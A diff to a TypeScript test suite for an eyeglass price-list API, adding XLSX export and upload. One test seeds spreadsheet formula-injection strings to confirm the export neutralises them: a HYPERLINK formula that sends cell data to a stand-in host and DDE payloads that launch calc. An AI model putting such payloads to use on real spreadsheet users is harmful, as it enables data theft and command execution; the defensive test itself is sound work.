@@ -22,11 +22,12 @@ import { SORT_COLUMNS, SORT_DIRECTIONS } from './glass-price-schemas.js'
 
 const csv = (...lines: string[]) => `${lines.join('\n')}\n`
 const header = 'manufacturer,brand,model,price,purchase'
+const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
 
 eachDatabase('glass price list: upload and download', (ctx) => {
   let app: FastifyInstance
   before(async () => {
-    app = await buildTestApp(ctx.db, { IMPORT_BODY_LIMIT: '4096' })
+    app = await buildTestApp(ctx.db, { IMPORT_BODY_LIMIT: '16384' })
   })
   after(() => app?.close())
   beforeEach(() => clearGlassPrices(ctx.db))
@@ -61,6 +62,7 @@ eachDatabase('glass price list: upload and download', (ctx) => {
           updated: 0,
           unchanged: 0,
           dryRun: false,
+          format: 'csv',
           delimiter: ',',
           batch: 'number',
         },
@@ -162,6 +164,7 @@ eachDatabase('glass price list: upload and download', (ctx) => {
           updated: 1,
           unchanged: 2,
           dryRun: false,
+          format: 'csv',
           delimiter: ';',
           batch: 'number',
         },
@@ -312,6 +315,7 @@ eachDatabase('glass price list: upload and download', (ctx) => {
         updated: 0,
         unchanged: 0,
         dryRun: true,
+        format: 'csv',
         delimiter: ',',
         batch: null,
       })
@@ -322,13 +326,13 @@ eachDatabase('glass price list: upload and download', (ctx) => {
     test('a JSON body is a 415 naming text/csv; a file over IMPORT_BODY_LIMIT is a 413', async () => {
       const json = await upload('{"a":1}', '', 'application/json')
       assert.equal(json.statusCode, 415)
-      assert.equal(json.headers.accept, 'text/csv')
+      assert.equal(json.headers.accept, `text/csv, ${XLSX}`)
       assert.match(json.json().detail, /text\/csv/)
       const big = await upload(
-        csv(header, ...numberedEntries('Big', 250).map((e) => `${e.manufacturer},${e.brand},${e.model},1,1`)),
+        csv(header, ...numberedEntries('Big', 1000).map((e) => `${e.manufacturer},${e.brand},${e.model},1,1`)),
       )
       assert.equal(big.statusCode, 413)
-      assert.match(big.json().detail, /4096 bytes/)
+      assert.match(big.json().detail, /16384 bytes/)
       assert.deepEqual(await stored(), [])
     })
   })
@@ -343,7 +347,18 @@ eachDatabase('glass price list: upload and download', (ctx) => {
       const response = await download('?manufacturer=lux&sortColumn=PRICE&sortDirection=DESC')
       assert.equal(response.statusCode, 200)
       assert.match(String(response.headers['content-type']), /^text\/csv/)
-      assert.match(String(response.headers['content-disposition']), /attachment; filename="glass-prices-.*\.csv"/)
+      assert.match(
+        String(response.headers['content-disposition']),
+        /^attachment; filename="glass-prices-lux-\d{4}-\d\d-\d\d\.csv"$/,
+      )
+      const names = await Promise.all(
+        ['?brand=ray&sortColumn=PRICE', '?brand=ray&excel=true', '?format=xlsx', '?brand=Очки'].map(
+          async (query) => String((await download(query)).headers['content-disposition']).split('"')[1],
+        ),
+      )
+      assert.equal(new Set(names).size, 4, names.join(' '))
+      assert.match(names[3] ?? '', /^glass-prices-\d{4}-\d\d-\d\d\.csv$/, 'a Cyrillic filter is left out of the name')
+      assert.match(names[1] ?? '', /^glass-prices-ray-\d{4}-\d\d-\d\d-excel\.csv$/)
       assert.equal(
         response.body,
         csv(header, 'Luxottica,Ray-Ban,RB1,300.10,150.00', 'Luxottica,Oakley,OX2,100.00,50.00'),
@@ -462,6 +477,89 @@ eachDatabase('glass price list: upload and download', (ctx) => {
         ['Seed', 'Sheet', 'Sheet 02', 200, 100],
         ['Seed', 'Sheet', 'Sheet 03', 300, 150],
       ])
+    })
+
+    test('XLSX export uploads back unchanged: no formula cells, hostile text intact, also sent as text/csv', async () => {
+      const models = [
+        '=HYPERLINK("http://evil.example/?"&A1,"RB01")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '-RB01',
+        "'quoted",
+        "'=already",
+        'literal _x0041_ escape',
+        'a & <b> "c"',
+        'Очки ёлка',
+      ]
+      await seedEntries(
+        ctx.db,
+        models.map((model, index) => ({
+          manufacturer: index === 0 ? '=cmd|"/C calc"!A0' : 'Safe',
+          brand: 'Brand',
+          model,
+          price: `${100 + index}.${index}5`,
+          purchase: 50,
+        })),
+      )
+      const before = await stored()
+      const response = await download('?format=xlsx')
+      assert.equal(response.statusCode, 200)
+      const workbook = new ExcelJS.Workbook()
+      await workbook.xlsx.load(response.rawPayload as never)
+      const formulas: string[] = []
+      workbook.worksheets[0]?.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(String(cell.address))
+        }),
+      )
+      assert.deepEqual(formulas, [])
+      for (const contentType of [XLSX, 'text/csv']) {
+        await clearGlassPrices(ctx.db)
+        const uploaded = await upload(response.rawPayload, '', contentType)
+        assert.equal(uploaded.statusCode, 200, uploaded.body)
+        assert.deepEqual([uploaded.json().format, uploaded.json().delimiter], ['xlsx', null])
+        assert.deepEqual(
+          (await stored()).map((row) => row.slice(0, 5)),
+          before.map((row) => row.slice(0, 5)),
+        )
+      }
+    })
+
+    test('round trip in a spreadsheet: an XLSX export edited in another program uploads with mode=upsert', async () => {
+      const ids = await seedEntries(ctx.db, [
+        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB5154', price: 9990, purchase: 5000 },
+        { manufacturer: 'Luxottica', brand: 'Ray-Ban', model: 'RB2140', price: 12990, purchase: 6000 },
+        { manufacturer: 'Safilo', brand: 'Carrera', model: 'CA 8862', price: 8990, purchase: 4000 },
+      ])
+      const exported = await download('?brand=ray-ban&format=xlsx')
+      const workbook = new ExcelJS.Workbook()
+      await workbook.xlsx.load(exported.rawPayload as never)
+      const sheet = workbook.worksheets[0]!
+      // As a price manager does it: a price computed by a formula (+5 %), a new row typed in, saved by the program.
+      sheet.getCell('D2').value = { formula: 'ROUND(9990*1.05,-1)', result: 10490 } as never
+      sheet.addRow(['Luxottica', 'Ray-Ban', 'RB4171', 13990.5, '6 200,00'])
+      const edited = Buffer.from(await workbook.xlsx.writeBuffer())
+      const response = await upload(edited, '?mode=upsert', XLSX)
+      assert.equal(response.statusCode, 200, response.body)
+      assert.deepEqual(
+        [response.json().created, response.json().updated, response.json().unchanged, response.json().format],
+        [1, 1, 1, 'xlsx'],
+      )
+      const after = await storedEntries(ctx.db)
+      assert.deepEqual(
+        after.map((e) => [e.id, e.model, e.price, e.purchase]),
+        [
+          [ids[0], 'RB5154', '10490.00', '5000.00'],
+          [ids[1], 'RB2140', '12990.00', '6000.00'],
+          [ids[2], 'CA 8862', '8990.00', '4000.00'],
+          [after[3]?.id, 'RB4171', '13990.50', '6200.00'],
+        ],
+      )
+    })
+
+    test('a body that is no workbook, sent as XLSX, is a 422 saying so', async () => {
+      const response = await upload('manufacturer,brand\n', '', XLSX)
+      assert.equal(response.statusCode, 422)
+      assert.match(response.json().problems[0].message, /not a readable XLSX workbook/)
     })
 
     test('a bad filter is a 400 problem, not a file', async () => {
